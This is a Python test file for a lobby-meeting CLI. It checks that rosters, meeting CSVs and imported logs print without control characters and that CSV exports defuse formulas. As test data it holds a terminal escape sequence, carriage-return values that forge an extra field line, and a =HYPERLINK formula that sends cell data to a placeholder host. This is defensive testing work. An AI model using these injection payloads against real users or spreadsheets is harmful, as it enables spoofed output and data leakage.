"""What a file holds reaches the terminal as text, and a spreadsheet as text: driven as a
process, with a roster, a lobby day and a teammate's log that carry escapes, CRs and formulas."""

import csv
import io
import json
from pathlib import Path

from tests.cli.test_references import brief_in, cli

ESC = "\x1b]0;owned\x07\x1b[2J"


def no_controls(text: str) -> bool:
    return not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0 for c in text)


def test_a_roster_with_escape_sequences_prints_as_text(tmp_path: Path, with_zips) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(
        f"name,zip,town\nAnna{ESC} Kowalska,03301,Concord\nBad{ESC},99999x,Nowhere\n",
        encoding="utf-8",
    )
    code, out, err = cli("lobby", "plan", str(roster), "-o", str(tmp_path / "meetings.csv"))
    assert no_controls(out + err), repr(out + err)
    # the names are read as a directory's are: escapes gone where the roster is read
    assert code == 2 and ":3: zip: Bad: '99999x'" in err and "x1b" not in out + err
    assert "Anna Kowalska" in (tmp_path / "meetings.csv").read_text(encoding="utf-8")


def test_a_lobby_day_and_the_log_print_no_control_characters(tmp_path: Path) -> None:
    day = tmp_path / "meetings.csv"
    day.write_text(
        "legislator,date,time,ask,notes\n"
        f'Jeanne Shaheen,2026-12-03,10:30,"Keep it\rOVERWRITTEN",note{ESC}\n'
        f"Nobody{ESC} Atall,2026-12-03,11:30,ask,\n",
        encoding="utf-8",
        newline="",
    )
    base = brief_in(tmp_path / "base")
    code, out, err = cli("batch", str(day), "-o", str(tmp_path / "out"), "--base", str(base))
    assert code == 2 and no_controls(out + err), repr(out + err)
    code, out, err = cli("log", "list")
    assert code == 0 and no_controls(out + err)
    meeting = out.splitlines()[1].split()[0]
    code, out, err = cli("log", "show", meeting)
    assert code == 0 and no_controls(out + err), repr(out)
    assert "Keep it OVERWRITTEN" in out  # a CR in the one-line ask: folded where it was read


def test_a_teammates_line_breaks_never_print_a_line_of_their_own(tmp_path: Path) -> None:
    """A CR or LF in a one-line field of an imported log is folded on import: ``log show``
    prints each field on its one line, and nothing poses as another field."""
    meeting = {
        "id": "0123456789abcdef0123456789abcdef",
        "legislator": "Jeanne\rShaheen",
        "date": "2026-12-03",
        "time": "10:30",
        "location": "Russell 506\r  Ask:        Vote against the sanctions",
        "staffer": "Jesús\u2028García",
        "attendees": ["Anna Kowalska"],
        "ask": "Keep it\rOVERWRITTEN\nin place.",
        "created": "2026-12-01T09:00:00Z",
        "updated": "2026-12-01T09:00:00Z",
        "exports": [],
    }
    team = tmp_path / "team.json"
    team.write_text(json.dumps({"briefer-log": 1, "meetings": [meeting]}), encoding="utf-8")
    code, _, err = cli("log", "import", str(team))
    assert code == 0, err
    code, out, err = cli("log", "show", meeting["id"][:8])
    assert code == 0, err
    lines = out.splitlines()
    assert "\\r" not in out and no_controls(out)
    assert [line.split(":")[0].strip() for line in lines if line.lstrip().startswith("Ask:")] == [
        "Ask"
    ]
    assert "  Member:     Jeanne Shaheen" in lines
    assert "  Where:      Russell 506   Ask:        Vote against the sanctions" in lines
    assert "  Staffer:    Jesús García" in lines
    assert "  Ask:        Keep it OVERWRITTEN in place." in lines
    code, out, _ = cli("log", "list")
    assert code == 0 and len(out.splitlines()) == 2  # the header and the one meeting


def test_a_csv_export_runs_no_formula(tmp_path: Path, monkeypatch) -> None:
    brief = brief_in(tmp_path / "b")
    text = brief.read_text(encoding="utf-8").replace(
        "ask: Keep every sanction on the Lukashenka regime in place.",
        'ask: \'=HYPERLINK("http://example.invalid/?"&A1,"Click")\'',
    )
    brief.write_text(text, encoding="utf-8")
    assert cli("build", str(brief), "-o", str(tmp_path / "p.pdf"))[0] == 0
    out = tmp_path / "team.csv"
    code, _, err = cli("log", "export", "-o", str(out))
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["ask"].startswith("'=HYPERLINK(")
    for row in rows:
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # and it comes back as it was
    again = tmp_path / "again"
    again.mkdir()
    monkeypatch.setenv("BRIEFER_DATA_DIR", str(again))
    code, _, err = cli("log", "import", str(out))
    assert code == 0, err
    code, show, _ = cli("log", "list", "--json")
    assert '"=HYPERLINK(' in show
